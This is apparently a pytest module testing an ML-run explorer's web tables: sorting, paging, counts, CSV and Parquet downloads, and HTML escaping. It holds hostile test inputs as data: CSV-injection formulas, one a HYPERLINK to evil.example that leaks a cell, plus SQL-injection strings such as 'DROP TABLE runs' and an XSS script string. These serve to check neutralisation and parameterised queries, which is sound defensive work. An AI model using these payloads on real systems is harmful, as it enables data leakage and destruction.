"""The explorer's grids over HTTP (issue 53, "completions in the tables"; explorer/tables.py):
prompt, completion, reward, advantage and answer in one table on the trajectory list, a group's
page and a step's page; sorting by any column with keyset paging (NULLs last, both directions);
the total of a filtered list; the filtered list as CSV and Parquet; model text escaped in HTML
and neutralised in CSV; bad sort parameters refused by name. Rough edge 8 (the group page's
advantage header) has its test here too.

Two runs in one module database: ``explorer`` of tests/explorer_data.py (rows of every origin,
the hostile strings) and ``grid``, written here: 132 rows with ties and NULLs in every nullable
column, answers and completions a spreadsheet would run as formulas, multi-turn episodes,
advantages on some rows, and one completion of a megabyte.
"""

from __future__ import annotations

import csv
import html
import io
import re
import urllib.error
import urllib.parse
import urllib.request

import numpy as np
import pytest

from reflexdb import GroupIn, TaskIn, TrajectoryIn, TurnIn
from tests.conftest import _drop_database, _new_database
from tests.explorer_data import HOSTILE, HOSTILE_PROMPT
from tests.store.test_explorer import _get, _served

GRID = "grid"
#: cells a spreadsheet would run as formulas (OWASP, CSV injection)
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-3+4", "@SUM(A1:A9)", "\tTAB=1", "\rCR=1")
REWARDS = (1.0, 0.0, None, 0.5, None, 1.0, None, 0.25)
BIG = 1_000_000  # characters of the megabyte completion


def _grid_run(store) -> dict:
    """Run ``grid``: 33 groups of 4 and a group of one (the megabyte completion); the first 10
    groups trained in step 1 (advantages after stage ``group``)."""
    rng = np.random.default_rng(7)
    run = store.create_run(GRID)
    tasks = store.add_tasks(run, [TaskIn(f"Task {i}: what is {i} * 7?\nShow your work.", str(7 * i))
                                  for i in range(5)])
    store.publish_policy(run, 0, "file:///grid/v0", sha256="0" * 64, step=0)
    written, k = [], 0
    for g in range(33):
        trajs = []
        for i in range(4):
            reward = REWARDS[k % len(REWARDS)]
            if k % 11 == 3:  # a multi-turn episode: two assistant turns and feedback between
                text = [f"First try {k}: 7 * {g} = {7 * g + 1}", "No, that is wrong.", f"Second try {k}: {7 * g}"]
                turns = [TurnIn("user", "q"), TurnIn("assistant", text[0], 0, 5, attempt=0),
                         TurnIn("user", text[1], 5, 8, attempt=0), TurnIn("assistant", text[2], 8, 12, attempt=1)]
                n = 12
            else:
                body = HOSTILE if k % 13 == 5 else FORMULAS[k % len(FORMULAS)] if k % 9 == 4 else f"Row {k} says"
                turns = [TurnIn("user", "q"), TurnIn("assistant", f"{body}\nthen line two of {k}", 0, 6)]
                n = 6
            answer = None if k % 10 == 9 else FORMULAS[k % len(FORMULAS)] if k % 4 == 1 else str(k % 7)
            trajs.append(TrajectoryIn(
                response_ids=rng.integers(0, 49152, n), logprobs=-rng.random(n).astype(np.float32),
                prompt_ids=rng.integers(0, 49152, 5), reward=reward,
                correct=None if reward is None else reward == 1.0, turns=turns, extracted_answer=answer,
                error="the reward function failed" if reward is None else None))
            k += 1
        written.append(store.write_group(GroupIn(run_id=run, task_id=tasks[g % len(tasks)], policy_version=0,
                                                 trajectories=trajs)))
    big_text = "BIG first line\n" + "y" * BIG
    big = store.write_group(GroupIn(run_id=run, task_id=tasks[0], policy_version=0, trajectories=[TrajectoryIn(
        response_ids=rng.integers(0, 49152, 8), logprobs=-rng.random(8).astype(np.float32), prompt_ids=[1, 2],
        reward=0.5, correct=False, turns=[TurnIn("user", "q"), TurnIn("assistant", big_text, 0, 8)],
        extracted_answer="big")]))
    trained = [i for w in written[:10] for i in w.trajectory_ids]
    advantages = {tid: (round(float(a), 4),) for tid, a in zip(trained, rng.standard_normal(len(trained)))}
    advantages[trained[0]] = advantages[trained[1]]  # a tie
    store.record_step(run, 1, 0, trained, loss=0.1, advantages=advantages, advantage_stages=["group"])
    return {"run": run, "groups": [w.group_id for w in written], "big": big.trajectory_ids[0],
            "big_group": big.group_id, "trained": trained}


@pytest.fixture(scope="module")
def site(pg_server_url, template_db):
    from reflexdb.explorer.data import Explorer

    from reflexdb import Store, roles
    from tests.explorer_data import populate

    name, url = _new_database(pg_server_url, template_db)
    store = Store.open(url)
    try:
        roles.apply(store.engine)
        made = populate(store, real_tokens=False)
        grid = _grid_run(store)
    finally:
        store.close()
    db = Explorer(url)
    server, thread, base = _served(db)
    yield {"base": base, "d": made, "grid": grid, "db": db, "url": url}
    server.should_exit = True
    thread.join(10)
    db.close()
    _drop_database(pg_server_url, name)


def _fetch(url: str) -> tuple[int, bytes, dict]:
    try:
        with urllib.request.urlopen(url, timeout=60) as resp:
            return resp.status, resp.read(), dict(resp.headers)
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read(), dict(exc.headers)


def _page(site, path: str) -> str:
    status, body, _ = _get(site["base"] + path)
    assert status == 200, (path, body[:1000])
    return body


def _table(body: str, table_id: str) -> str:
    m = re.search(rf'<table class="[^"]*" id="{table_id}">(.*?)</table>', body, re.DOTALL)
    assert m, f"no table {table_id}"
    return m.group(1)


def _ids(body: str, table_id: str = "trajectories") -> list[int]:
    """The trajectory ids of the grid's rows, in order (each row's first link to a trajectory)."""
    rows = re.findall(r"<tr>(.*?)</tr>", _table(body, table_id).split("</thead>")[1], re.DOTALL)
    return [int(re.search(r'<a href="/trajectories/(\d+)">\1</a>', r).group(1)) for r in rows if "/trajectories/" in r]


def _headers(body: str, table_id: str) -> list[str]:
    head = _table(body, table_id).split("</thead>")[0]
    return [re.sub(r"<[^>]+>", "", h).strip() for h in re.findall(r"<th[^>]*>(.*?)</th>", head, re.DOTALL)]


def _next(body: str) -> str | None:
    m = re.search(r'<a class="next" href="([^"]+)"', body)
    return html.unescape(m.group(1)) if m else None


def _walk(site, path: str) -> list[list[int]]:
    """Every page of a list from ``path`` on, following the next-page links: each page's ids."""
    pages = []
    while path:
        body = _page(site, path)
        pages.append(_ids(body))
        path = _next(body)
        assert len(pages) < 20, "the pages do not end"
    return pages


def _expected(site, column: str, desc: bool, where: str = "") -> list[int]:
    """The run's rows in one ORDER BY of the column's expression (NULLs last), ties by id."""
    from reflexdb.explorer.tables import SORTS

    s = SORTS[column]
    d = "DESC" if desc else "ASC"
    sql = (f"SELECT t.id FROM trajectories t JOIN groups g ON g.id = t.group_id JOIN tasks k ON k.id = t.task_id"
           f"{s.join} WHERE t.run_id = %(run_id)s{where} ORDER BY {s.expr} {d} NULLS LAST, t.id {d}")
    return [r["id"] for r in site["db"].rows(sql, {"run_id": site["grid"]["run"]})]


# ---------------------------------------------------------------------------------- the grid


def test_the_list_shows_prompt_completion_reward_advantage_and_answer_in_one_grid(site):
    d = site["d"]
    body = _page(site, f"/runs/{d.run}/trajectories")
    assert _headers(body, "trajectories") == ["trajectory ▼", "origin", "kind", "version", "prompt", "completion",
                                             "reward", "advantage", "correct", "answer", "confidence", "tokens",
                                             "turns"]
    # a multi-turn episode: its first assistant turn's first line, and on expanding every assistant turn
    row = re.search(rf'<tr><td class="num"><a href="/trajectories/{d.base}">.*?</tr>', body, re.DOTALL).group(0)
    assert "<summary>Each of the 3 boxes holds 12 pencils" in row
    assert "Let me recount: 3 + 12 = 15 pencils" in row  # the second assistant turn, in the <details>
    assert "(step 1)" in row and "→" in row  # its advantages after each stage, and the step that gave them
    assert "Tom has 3 boxes of 12 pencils" in row  # the prompt
    # model text is text: escaped in every cell, nothing of it an element
    script = re.search(rf'<tr><td class="num"><a href="/trajectories/{d.script}">.*?</tr>', body, re.DOTALL).group(0)
    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;&lt;b&gt;bold&lt;/b&gt;" in script
    assert "<script>" not in body and "<b>bold" not in body and "<img src=x" not in body
    assert html.escape(HOSTILE_PROMPT, quote=False) in body


def test_a_megabyte_completion_is_cut_in_the_grid_with_a_link_to_the_whole(site):
    g = site["grid"]
    status, body, _ = _get(f"{site['base']}/runs/{GRID}/trajectories")  # the newest row first: the big one
    assert status == 200 and _ids(body)[0] == g["big"]
    assert len(body.encode()) < 400_000, f"a list page of {len(body.encode()):,} bytes"
    row = re.search(rf'<tr><td class="num"><a href="/trajectories/{g["big"]}">.*?</tr>', body, re.DOTALL).group(0)
    assert "<summary>BIG first line</summary>" in row
    assert "cut at 2,000 characters of 1.0 MB" in row and f'href="/trajectories/{g["big"]}">the whole text' in row
    assert row.count("y") < 2_100
    body = _page(site, f"/groups/{g['big_group']}")
    assert "cut at 2,000 characters of 1.0 MB" in body and len(body.encode()) < 100_000


def test_a_step_page_shows_completions_and_sorts_across_its_groups(site):
    d = site["d"]
    body = _page(site, f"/runs/{d.run}/steps/1")
    assert "Average speed is distance divided by time" in body  # a completion of the plain group
    heads = _headers(body, f"group-{d.plain_group}")
    assert "completion" in heads and "prompt" not in heads  # a grid per group: the prompt is its caption
    body = _page(site, f"/runs/{d.run}/steps/1?sort=reward&dir=desc")
    rows = _ids(body, "step-rows")
    assert set(rows) == set(d.step_trajectories[1])
    rewards = {r["id"]: r["reward"] for r in site["db"].rows(
        "SELECT id, reward FROM trajectories WHERE id = ANY(%(ids)s)", {"ids": rows})}
    values = [rewards[i] for i in rows]
    valued = [v for v in values if v is not None]
    assert valued == sorted(valued, reverse=True) and values[len(valued):] == [None] * (len(values) - len(valued))


# ---------------------------------------------------------------------------------- rough edge 8


def test_the_group_page_says_which_step_gave_the_advantages_and_shows_the_responses(site):
    """Rough edge 8: the header read "advantage (—), newest step" and no response was shown."""
    d = site["d"]
    body = _page(site, f"/groups/{d.plain_group}")  # trained in step 1, after the stages group, positive_amplification
    advantage = [h for h in _headers(body, "members") if h.startswith("advantage")]
    assert advantage and "step 1" in advantage[0] and "group → positive_amplification" in advantage[0], advantage
    assert "Average speed is distance divided by time: 84 / 2" in body  # the responses, in the grid
    assert "Checking again: 84 km over 2 hours" in body  # a second assistant turn, on expanding
    body = _page(site, f"/groups/{d.compare_groups[1]}")  # collected at version 3, never trained
    advantage = [h for h in _headers(body, "members") if h.startswith("advantage")]
    assert advantage and "not trained yet" in advantage[0] and "—" not in advantage[0], advantage
    assert "The train goes 84 / 2 = \\boxed{42} km every hour." in body


# ---------------------------------------------------------------------------------- sorting


@pytest.mark.parametrize("column", ["id", "origin", "kind", "version", "prompt", "completion", "reward", "advantage",
                                    "correct", "answer", "confidence", "tokens", "turns"])
def test_every_column_sorts_both_ways_and_its_pages_hold_every_row_once(site, column):
    for desc in (False, True):
        pages = _walk(site, f"/runs/{GRID}/trajectories?sort={column}&dir={'desc' if desc else 'asc'}")
        assert [len(p) for p in pages] == [50, 50, 33], (column, desc, [len(p) for p in pages])
        assert [i for p in pages for i in p] == _expected(site, column, desc), (column, desc)


def test_null_rewards_come_last_in_both_directions_across_pages(site):
    rows = {r["id"]: r["reward"] for r in site["db"].rows("SELECT id, reward FROM trajectories WHERE run_id = %(r)s",
                                                          {"r": site["grid"]["run"]})}
    nulls = sorted(i for i, v in rows.items() if v is None)
    # page 2 holds rows with a reward and NULLs; page 3 starts inside the NULLs (its cursor: key=n)
    assert 50 < len(rows) - len(nulls) < 100 < len(rows)
    for desc in (False, True):
        got = [i for p in _walk(site, f"/runs/{GRID}/trajectories?sort=reward&dir={'desc' if desc else 'asc'}")
               for i in p]
        valued = sorted((i for i, v in rows.items() if v is not None), key=lambda i: (rows[i], i), reverse=desc)
        assert got == valued + sorted(nulls, reverse=desc)


def test_a_sort_keeps_the_filters_and_the_headers_link_both_ways(site):
    body = _page(site, f"/runs/{GRID}/trajectories?correct=false&sort=reward&dir=asc")
    links = {html.unescape(h): t for h, t in re.findall(r'<a class="sort" href="([^"]+)"[^>]*>([^<]+)</a>', body)}
    by_label = {t: h for h, t in links.items()}
    assert by_label["reward"] == f"/runs/{GRID}/trajectories?correct=false&sort=reward&dir=desc"  # turned round
    assert by_label["confidence"] == f"/runs/{GRID}/trajectories?correct=false&sort=confidence&dir=asc"
    got = [i for p in _walk(site, f"/runs/{GRID}/trajectories?correct=false&sort=reward&dir=asc") for i in p]
    assert got == _expected(site, "reward", False, " AND t.correct IS NOT DISTINCT FROM false")
    assert '<input type="hidden" name="sort" value="reward">' in body  # the filter form keeps the sort


# ---------------------------------------------------------------------------------- counts


def test_the_count_of_a_list_is_exact_bounded_or_an_estimate_said_so(site, monkeypatch):
    from reflexdb.explorer import tables

    def total(path: str) -> str:
        body = _page(site, path)
        said = re.sub(r"<[^>]+>", "", re.search(r'<p class="facts" id="count">(.*?)</p>', body, re.DOTALL).group(1))
        return html.unescape(" ".join(said.split()))

    assert total(f"/runs/{GRID}/trajectories").startswith("133 trajectories ·")
    n_false = len(_expected(site, "id", True, " AND t.correct IS NOT DISTINCT FROM false"))
    assert total(f"/runs/{GRID}/trajectories?correct=false&sort=reward").startswith(f"{n_false} trajectories ·")
    assert total(f"/runs/{GRID}/trajectories?group={site['grid']['groups'][0]}").startswith("4 trajectories ·")
    assert total(f"/runs/{GRID}/trajectories?q=no-such-text").startswith("0 trajectories ·")
    assert total(f"/runs/{GRID}/trajectories?sort=reward&after=1&key=n").startswith("133 trajectories ·")  # any page
    monkeypatch.setattr(tables, "COUNT_CAP", 100)
    assert total(f"/runs/{GRID}/trajectories?version=0").startswith("100+ trajectories (counted up to 100)")
    # unfiltered and past the cap: about as many as the run's table statistics say (the runs page's number)
    import psycopg

    with psycopg.connect(site["url"].replace("postgresql+psycopg://", "postgresql://"), autocommit=True) as conn:
        conn.execute(f"ANALYZE trajectories_r{site['grid']['run']}")
    assert total(f"/runs/{GRID}/trajectories").startswith("about 133 trajectories (the run's table statistics)")
    # a count that takes longer than its budget: as many as it found by then, said so
    monkeypatch.setattr(tables, "COUNT_BUDGET_MS", 300)
    monkeypatch.setattr(tables, "COUNT_STEP", 2)
    monkeypatch.setattr(tables, "_COUNT", tables._COUNT.replace("SELECT 1 FROM", "SELECT pg_sleep(0.01) FROM"))
    said = total(f"/runs/{GRID}/trajectories?version=0")
    found = int(re.match(r"([\d,]+)\+ trajectories \(as many as 0\.3 s of counting found\)", said).group(1))
    assert 51 <= found < 133, said  # at least what the first page holds (50 and a next page)


# ---------------------------------------------------------------------------------- downloads


def test_the_downloads_hold_the_pages_rows_and_neutralise_formulas_in_csv(site):
    import pyarrow.parquet as pq

    query = "correct=false&sort=reward&dir=asc"
    listed = [i for p in _walk(site, f"/runs/{GRID}/trajectories?{query}") for i in p]
    body = _page(site, f"/runs/{GRID}/trajectories?{query}")
    assert f'href="/runs/{GRID}/trajectories.csv?{html.escape(query)}"' in body
    status, raw, headers = _fetch(f"{site['base']}/runs/{GRID}/trajectories.csv?{query}")
    assert status == 200 and headers["content-type"] == "text/csv; charset=utf-8"
    assert headers["content-disposition"] == f'attachment; filename="{GRID}-trajectories.csv"'
    assert "default-src 'none'" in headers["content-security-policy"]
    limit = csv.field_size_limit(2 * BIG)  # the megabyte completion is a row of the list: the file has all of it
    try:
        rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))
    finally:
        csv.field_size_limit(limit)
    assert [int(r["trajectory_id"]) for r in rows] == listed
    assert {"reward", "advantages", "extracted_answer", "prompt", "completion"} <= set(rows[0])
    stored = {r["id"]: r for r in site["db"].rows(
        "SELECT t.id, t.extracted_answer, t.reward, u.text FROM trajectories t JOIN turns u ON u.trajectory_id = t.id "
        "AND u.run_id = t.run_id AND u.turn_index = 1 WHERE t.run_id = %(r)s", {"r": site["grid"]["run"]})}
    formulas = 0
    for r in rows:
        s = stored[int(r["trajectory_id"])]
        for cell, value in ((r["extracted_answer"], s["extracted_answer"]), (r["completion"], s["text"])):
            if value is not None and value.startswith(("=", "+", "-", "@", "\t", "\r")):
                assert cell == "'" + value  # shown by a spreadsheet, not run
                formulas += 1
            elif value is not None and cell.startswith(value):
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert r["reward"] == ("" if s["reward"] is None else repr(s["reward"]))
    assert formulas >= 10
    status, raw, headers = _fetch(f"{site['base']}/runs/{GRID}/trajectories.parquet?{query}")
    assert status == 200 and headers["content-type"] == "application/vnd.apache.parquet"
    table = pq.read_table(io.BytesIO(raw))
    assert table.column("trajectory_id").to_pylist() == listed
    assert {"completion", "completion_ids", "logprobs"} <= set(table.schema.names)
    got = dict(zip(table.column("trajectory_id").to_pylist(), table.column("extracted_answer").to_pylist()))
    assert all(got[i] == stored[i]["extracted_answer"] for i in listed)  # Parquet keeps the text as it is


def test_a_hostile_completion_downloads_as_plain_text(site):
    d = site["d"]
    status, raw, _ = _fetch(f"{site['base']}/runs/{d.run}/trajectories.csv?group={d.script_group}")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))
    assert status == 200 and len(rows) == 2
    assert any(HOSTILE in r["completion"] and r["extracted_answer"] == HOSTILE for r in rows)


# ---------------------------------------------------------------------------------- bad input


@pytest.mark.parametrize("path, says", [
    (f"/runs/{GRID}/trajectories?sort=nope", "&#39;sort&#39;: &#39;nope&#39; is not a column this page sorts by"),
    (f"/runs/{GRID}/trajectories?sort=reward%3BDROP%20TABLE%20runs", "&#39;sort&#39;: &#39;reward;DROP TABLE runs&#39;"),
    (f"/runs/{GRID}/trajectories?sort=t.reward", "&#39;sort&#39;: &#39;t.reward&#39;"),
    (f"/runs/{GRID}/trajectories?dir=sideways", "&#39;dir&#39;: &#39;sideways&#39; is not asc or desc"),
    (f"/runs/{GRID}/trajectories?sort=reward&after=5", "&#39;after&#39; needs &#39;key&#39;"),
    (f"/runs/{GRID}/trajectories?sort=reward&after=5&key=vabc", "&#39;key&#39;: &#39;abc&#39; is not a sort value"),
    (f"/runs/{GRID}/trajectories?sort=reward&after=5&key=x1", "&#39;key&#39;: &#39;x1&#39; is not a sort value"),
    (f"/runs/{GRID}/trajectories?sort=reward&after=zz&key=v1", "&#39;after&#39;: &#39;zz&#39; is not an integer"),
    (f"/runs/{GRID}/trajectories?sort=reward&before=5", "&#39;before&#39; pages the list newest first"),
    (f"/runs/{GRID}/trajectories.csv?sort=nope", "&#39;sort&#39;: &#39;nope&#39;"),
    (f"/runs/{GRID}/trajectories.parquet?version=x", "filter &#39;version&#39;: &#39;x&#39; is not an integer"),
    ("/groups/{group}?sort=staleness", "&#39;sort&#39;: &#39;staleness&#39; is not a column this page sorts by"),
    ("/runs/explorer/steps/1?sort=turns", "&#39;sort&#39;: &#39;turns&#39;"),
])
def test_a_bad_sort_or_cursor_gets_a_400_page_naming_it(site, path, says):
    status, body, _ = _get(site["base"] + path.replace("{group}", str(site["d"].plain_group)))
    assert status == 400 and says in body, body[:1500]


def test_a_download_in_an_unknown_format_is_not_found(site):
    status, body, _ = _get(f"{site['base']}/runs/{GRID}/trajectories.xlsx")
    assert status == 404 and "no download as &#39;xlsx&#39;" in body
    assert site["db"].one("SELECT count(*) AS n FROM runs")["n"] == 3


def test_a_cursor_value_reaches_sql_only_as_a_parameter(site):
    evil = urllib.parse.quote("v'); DROP TABLE runs; --")
    status, body, _ = _get(f"{site['base']}/runs/{GRID}/trajectories?sort=answer&after=5&key={evil}")
    assert status == 200, body[:800]  # a text key is a text, compared as one
    assert site["db"].one("SELECT count(*) AS n FROM runs")["n"] == 3
